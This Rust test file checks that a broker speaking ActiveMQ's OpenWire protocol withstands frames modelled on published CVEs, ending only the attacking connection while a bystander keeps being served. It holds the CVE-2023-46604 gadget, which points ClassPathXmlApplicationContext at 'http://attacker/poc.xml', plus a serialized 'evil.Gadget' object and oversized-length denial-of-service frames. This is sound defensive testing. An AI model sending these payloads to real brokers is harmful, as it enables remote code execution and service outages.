//! Frames of published attacks on ActiveMQ's OpenWire, through a whole session with a broker behind it: that connection at
//! most ends, and nobody else notices.

use bytes::BytesMut;
use ferrymq_model::Closing;
use ferrymq_openwire::codec::broker_info::BrokerInfo;
use ferrymq_openwire::codec::connection::ConnectionError;
use ferrymq_openwire::codec::message::MessageKind;
use ferrymq_openwire::codec::response::ExceptionResponse;
use ferrymq_openwire::codec::throwable::Throwable;
use ferrymq_openwire::peer::{self, Peer, PeerOptions};
use ferrymq_openwire::{Command, SessionOptions};
use ferrymq_sim::table::Table;

/// What a session may answer to a peer that attacks it. Bytes.
const ANSWER_BYTES_MAX: usize = 256 * 1024;

struct Attack {
    table: Table,
    attacker: usize,
    peer: Peer,
    bystander: usize,
    other: Peer,
}

impl Attack {
    fn sit(table: &mut Table) -> usize {
        table.sit(Box::new(ferrymq_openwire::Session::new(SessionOptions::new("ID:broker-1".into()))))
    }

    fn log_in(table: &mut Table, seat: usize, name: &str) -> Peer {
        let mut peer = Peer::new(PeerOptions::new(name));
        let mut out = BytesMut::new();
        peer.hello(&mut out).unwrap();
        assert_eq!(table.receive(seat, &out), Closing::No);
        let mut input = table.take(seat);
        while peer.next(&mut input).unwrap().is_some() {}
        out.clear();
        peer.connect(Some(name), &mut out).unwrap();
        peer.begin_session(1, &mut out).unwrap();
        peer.begin_producer(1, &mut out).unwrap();
        assert_eq!(table.receive(seat, &out), Closing::No);
        table.take(seat);
        peer
    }

    /// Somebody who attacks after logging in.
    fn of_client() -> Self {
        let mut table = Table::default();
        let (bystander, attacker) = (Self::sit(&mut table), Self::sit(&mut table));
        let other = Self::log_in(&mut table, bystander, "ID:bystander-1-2:1");
        let peer = Self::log_in(&mut table, attacker, "ID:attacker-1-2:1");
        Self { table, attacker, peer, bystander, other }
    }

    /// Somebody who attacks before saying who it is.
    fn of_stranger() -> Self {
        let mut attack = Self::of_client();
        attack.attacker = Self::sit(&mut attack.table);
        attack
    }

    fn command(&mut self, command: impl Into<Command>) -> Closing {
        let mut out = BytesMut::new();
        self.peer.put(&command.into(), &mut out).unwrap();
        self.octets(&out)
    }

    fn octets(&mut self, octets: &[u8]) -> Closing {
        self.table.receive(self.attacker, octets)
    }

    /// The bystander sends and is answered; the attacker is owed little.
    fn nobody_else_notices(mut self) {
        assert!(self.table.take(self.attacker).len() < ANSWER_BYTES_MAX);
        let mut out = BytesMut::new();
        let id = self.other.send(1, &peer::queue("Q"), peer::text("still here"), None, &mut out).unwrap();
        assert_eq!(self.table.receive(self.bystander, &out), Closing::No);
        let mut answer = self.table.take(self.bystander);
        let mut answered = false;
        while let Some(command) = self.other.next(&mut answer).unwrap() {
            answered |= matches!(command, Command::Response(response) if response.correlation_id == id);
        }
        assert!(answered);
    }
}

fn ends(closing: &Closing) -> bool {
    matches!(closing, Closing::PeerError(_) | Closing::AfterFlush)
}

#[test]
fn cve_2023_46604_an_exception_from_a_client_makes_nothing() {
    let gadget = || {
        Some(Box::new(Throwable {
            class_name: Some("org.springframework.context.support.ClassPathXmlApplicationContext".into()),
            message: Some("http://attacker/poc.xml".into()),
            ..Throwable::default()
        }))
    };
    let mut attack = Attack::of_client();
    attack.command(ExceptionResponse { exception: gadget(), ..ExceptionResponse::default() });
    attack.command(ConnectionError { exception: gadget(), ..ConnectionError::default() });
    attack.nobody_else_notices();
}

#[test]
fn cve_2015_5254_an_object_is_carried_and_never_made() {
    let mut attack = Attack::of_client();
    let serialised = b"\xAC\xED\x00\x05sr\x00\x11evil.Gadget";
    let mut out = BytesMut::new();
    let message = peer::message(MessageKind::Object, Some(serialised), None);
    attack.peer.send(1, &peer::queue("Q"), message, None, &mut out).unwrap();
    assert_eq!(attack.octets(&out), Closing::No);
    let stomp = ferrymq_stomp::SessionOptions::new("ID:broker-1-9".into());
    let stomp = attack.table.sit(Box::new(ferrymq_stomp::Session::new(stomp)));
    let frames = b"CONNECT\naccept-version:1.2\nhost:h\n\n\0SUBSCRIBE\nid:0\ndestination:/queue/Q\n\n\0";
    assert_eq!(attack.table.receive(stomp, frames), Closing::No);
    let seen = attack.table.take(stomp);
    assert!(seen.windows(serialised.len()).any(|octets| octets == serialised));
    attack.nobody_else_notices();
}

#[test]
fn cve_2025_27533_lengths_beyond_the_frame_end_the_connection() {
    for length in [u32::MAX, u32::MAX / 2, 0x7FFF_FFF0, 1 << 20] {
        // A frame that announces more than may be, from a client and from a stranger.
        for mut attack in [Attack::of_client(), Attack::of_stranger()] {
            let announced = [&length.to_be_bytes()[..], &[24]].concat();
            let closing = attack.octets(&announced);
            assert!(ends(&closing) || length == 1 << 20 && closing == Closing::No, "{length} {closing:?}");
            attack.nobody_else_notices();
        }
        // A short frame whose octet string, the token of a ConnectionControl, announces as much: tight encoding, all
        // truth values set.
        let mut attack = Attack::of_client();
        let body = [&[18, 2, 0xFF, 0xFF, 0, 0, 0, 9][..], &length.to_be_bytes()].concat();
        let frame = [&u32::try_from(body.len()).unwrap().to_be_bytes()[..], &body].concat();
        assert!(ends(&attack.octets(&frame)), "{length}");
        attack.nobody_else_notices();
    }
}

#[test]
fn cve_2026_50734_a_stranger_s_first_frame_is_small() {
    let mut attack = Attack::of_stranger();
    // 1 MiB of properties are announced; nothing is waited for, nothing is allocated.
    let frame = [&(1_u32 << 20).to_be_bytes()[..], b"\x01ActiveMQ\0\0\0\x0C\x01\0\x0F\xFF\xF0"].concat();
    assert!(ends(&attack.octets(&frame)));
    attack.nobody_else_notices();
}

#[test]
fn cve_2026_53917_a_first_frame_that_announces_endless_properties() {
    for count in [u32::MAX - 1, 0x7FFF_FFFF, 65] {
        let mut attack = Attack::of_stranger();
        let properties = [&count.to_be_bytes()[..], &b"\0\x01a\x01\x01".repeat(65)].concat();
        let length = u32::try_from(properties.len()).unwrap();
        let body = [b"\x01ActiveMQ\0\0\0\x0C\x01", &length.to_be_bytes()[..], &properties].concat();
        let frame = [&u32::try_from(body.len()).unwrap().to_be_bytes()[..], &body].concat();
        let closing = attack.octets(&frame);
        assert!(ends(&closing), "{count} {closing:?}");
        attack.nobody_else_notices();
    }
}

#[test]
fn cve_2026_50750_a_client_that_says_it_is_a_broker_again_and_again() {
    let mut attack = Attack::of_client();
    for number in 0..10_000 {
        let info = BrokerInfo {
            broker_name: Some(format!("b{number}").into()),
            slave_broker: true,
            master_broker: true,
            duplex_connection: true,
            network_connection: true,
            network_properties: Some("x=y".into()),
            ..BrokerInfo::default()
        };
        if ends(&attack.command(info)) {
            break;
        }
    }
    attack.nobody_else_notices();
}

#[test]
fn messages_of_java_s_other_kinds_of_command_end_at_most_their_connection() {
    for line in include_str!("../../../openwire/tests/golden/frames.txt").lines().step_by(7) {
        let digit = |byte: u8| char::from(byte).to_digit(16).unwrap() as u8;
        let body: Vec<u8> = line.as_bytes().chunks(2).map(|pair| digit(pair[0]) << 4 | digit(pair[1])).collect();
        let mut attack = Attack::of_client();
        attack.octets(&[&u32::try_from(body.len()).unwrap().to_be_bytes()[..], &body].concat());
        attack.nobody_else_notices();
    }
}
